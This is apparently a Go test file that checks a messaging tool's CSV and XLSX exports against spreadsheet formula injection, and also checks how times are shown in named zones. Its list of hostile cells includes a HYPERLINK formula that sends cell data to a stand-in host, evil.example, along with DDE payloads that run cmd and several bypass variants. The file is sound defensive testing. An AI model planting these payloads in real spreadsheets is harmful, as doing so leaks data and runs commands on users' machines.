package ops_test

import (
	"archive/zip"
	"bytes"
	"database/sql"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/messagebridge/messagebridge/commands/importer"
	"github.com/messagebridge/messagebridge/commands/ops"
)

// hostileCells are values a spreadsheet would run as formulas, one of each
// family OWASP names (=, +, -, @, tab, carriage return) and the forms that
// get around a check of the first byte only.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	`=1+1`,
	`+2+3+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	` =1+1`,
	`＝1+1`,
	`+91 98765`, // a phone-like value that is not E.164
	`-`,
	`+`,
}

// TestSheetCell: a formula-like cell gets a quote in front and is
// otherwise unchanged; plain values and E.164 numbers are left alone.
func TestSheetCell(t *testing.T) {
	t.Parallel()
	for _, v := range hostileCells {
		if got := ops.SheetCell(v); got != "'"+v {
			t.Errorf("SheetCell(%q) = %q, want it quoted", v, got)
		}
	}
	for _, v := range []string{"", "9876543210", "Sharma, Ravi", "+919876543210", "+14155550123", "no phone number", "a=b", "12-34", "'=1+1"} {
		if got := ops.SheetCell(v); got != v {
			t.Errorf("SheetCell(%q) = %q, want it unchanged", v, got)
		}
	}
	// Almost E.164 is not exempt.
	for _, v := range []string{"+0919876543210", "+91987654321012345", "+91-98765-43210", "+919876543210=1"} {
		if got := ops.SheetCell(v); got != "'"+v {
			t.Errorf("SheetCell(%q) = %q, want it quoted", v, got)
		}
	}
}

// TestRejectsCSVNeutralizesFormulas reads the rejects file back as a
// spreadsheet would and checks each hostile cell is text.
func TestRejectsCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	var rejects []importer.Reject
	for i, v := range hostileCells {
		rejects = append(rejects, importer.Reject{Row: i + 2, Value: v, Reason: "no phone number"})
	}
	rejects = append(rejects,
		importer.Reject{Row: 90, Value: "+919876543210", Reason: "duplicate"},
		importer.Reject{Row: 91, Value: "12345", Reason: "=too short"})
	records, err := csv.NewReader(bytes.NewReader(ops.RejectsCSV(rejects))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(rejects)+1 || strings.Join(records[0], ",") != "row,value,reason" {
		t.Fatalf("records: %q", records)
	}
	for i, rj := range rejects[:len(hostileCells)] {
		if got := records[i+1][1]; got != "'"+rj.Value {
			t.Errorf("row %d: value cell %q, want %q with a quote in front", rj.Row, got, rj.Value)
		}
	}
	last := records[len(records)-2:]
	if last[0][1] != "+919876543210" || last[1][1] != "12345" || last[1][2] != "'=too short" {
		t.Errorf("E.164 and plain cells: %q", last)
	}
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !strings.HasPrefix(cell, "+91987") {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
}

// TestResultsXLSXWritesTextNotFormulas: names and errors that look like
// formulas are text cells holding exactly what was written; the file holds
// no formula at all; times are in the display zone, which the headers name.
func TestResultsXLSXWritesTextNotFormulas(t *testing.T) {
	t.Parallel()
	sent := time.Date(2026, 11, 28, 8, 35, 0, 0, time.UTC)
	var rows []ops.CampaignResult
	for _, v := range hostileCells {
		rows = append(rows, ops.CampaignResult{Phone: "+919876543210", Name: v,
			Status: sql.NullString{String: "failed", Valid: true}, LastError: sql.NullString{String: v, Valid: true},
			SentAt: sql.NullTime{Time: sent, Valid: true}})
	}
	ist, err := time.LoadLocation("Asia/Kolkata")
	if err != nil {
		t.Fatal(err)
	}
	data, err := ops.ResultsXLSX(rows, ist)
	if err != nil {
		t.Fatal(err)
	}
	// No <f> (formula) element anywhere in the sheet.
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) {
			t.Fatalf("%s holds a formula:\n%s", f.Name, raw)
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	header, _ := x.GetRows("Sheet1")
	if got := strings.Join(header[0], "|"); got != "Phone|Name|Status|Attempts|Last error|Sent at (IST)|Delivered at (IST)" {
		t.Errorf("header %q", got)
	}
	for i, v := range hostileCells {
		for _, col := range []string{"B", "E"} {
			cell := col + itoa(i+2)
			got, err := x.GetCellValue("Sheet1", cell)
			if err != nil || got != v {
				t.Errorf("%s = %q (%v), want %q as written", cell, got, err, v)
			}
			if typ, _ := x.GetCellType("Sheet1", cell); typ != excelize.CellTypeInlineString {
				t.Errorf("%s has type %v, want an inline string", cell, typ)
			}
			if f, _ := x.GetCellFormula("Sheet1", cell); f != "" {
				t.Errorf("%s has the formula %q", cell, f)
			}
		}
		if got, _ := x.GetCellValue("Sheet1", "F"+itoa(i+2)); got != "2026-11-28 14:05:00" {
			t.Errorf("sent at %q, want IST", got)
		}
	}
	if got, _ := x.GetCellValue("Sheet1", "A2"); got != "+919876543210" {
		t.Errorf("phone %q, want it as written", got)
	}
	// A zone with summer time is named, not abbreviated.
	london, err := time.LoadLocation("Europe/London")
	if err != nil {
		t.Fatal(err)
	}
	data, err = ops.ResultsXLSX(rows[:1], london)
	if err != nil {
		t.Fatal(err)
	}
	x2, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer x2.Close()
	if got, _ := x2.GetCellValue("Sheet1", "F1"); got != "Sent at (Europe/London)" {
		t.Errorf("London header %q", got)
	}
}

// TestTimeText: one format, the zone named.
func TestTimeText(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 28, 8, 35, 0, 0, time.UTC)
	ist, _ := time.LoadLocation("Asia/Kolkata")
	dubai, _ := time.LoadLocation("Asia/Dubai")
	for _, tc := range []struct {
		loc  *time.Location
		want string
	}{
		{ist, "28 Nov 2026 14:05 IST"},
		{time.UTC, "28 Nov 2026 08:35 UTC"},
		{dubai, "28 Nov 2026 12:35 UTC+04"},
	} {
		if got := ops.TimeText(at, tc.loc); got != tc.want {
			t.Errorf("TimeText in %s = %q, want %q", tc.loc, got, tc.want)
		}
	}
	if got := ops.TimeText(time.Time{}, ist); got != "" {
		t.Errorf("zero time: %q", got)
	}
}

func itoa(n int) string {
	cell, _ := excelize.CoordinatesToCellName(1, n)
	return strings.TrimPrefix(cell, "A")
}
